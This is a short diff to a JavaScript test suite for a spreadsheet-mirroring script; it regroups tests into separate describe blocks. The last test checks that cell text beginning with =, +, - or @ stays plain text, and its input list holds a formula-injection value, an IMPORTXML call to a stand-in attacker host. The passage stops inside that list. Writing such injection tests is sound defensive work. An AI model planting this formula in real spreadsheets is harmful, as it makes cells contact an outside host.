@@ -69,7 +69,9 @@ describe('a mirrored tab', () => {
       .map((r) => r.getBooleanCondition().getCriteriaValues()[0]);
     expect(colours).toEqual(['Ouvert', 'En cours', 'Levé', 'Abandonné']);
   });
+});
 
+describe('writing a mirrored tab', () => {
   it('replaces the row of a known id and appends new ids, never duplicating', () => {
     mirror(job(BLOCKERS, [blocker('b-1'), blocker('b-2')]));
     mirror(
@@ -92,7 +94,9 @@ describe('a mirrored tab', () => {
     expect(sheet.getRange(2, staff).getFormulas()).toEqual([['=LEN(A2)']]);
     expect(rows().map((r) => r['Commentaire ADEME'])).toEqual([7, '', ''].map(String));
   });
+});
 
+describe('text as typed', () => {
   it('keeps text starting with = + - @ as text, also when the row is rewritten later', () => {
     const risky = [
       '=IMPORTXML("http://evil.example","//a")',
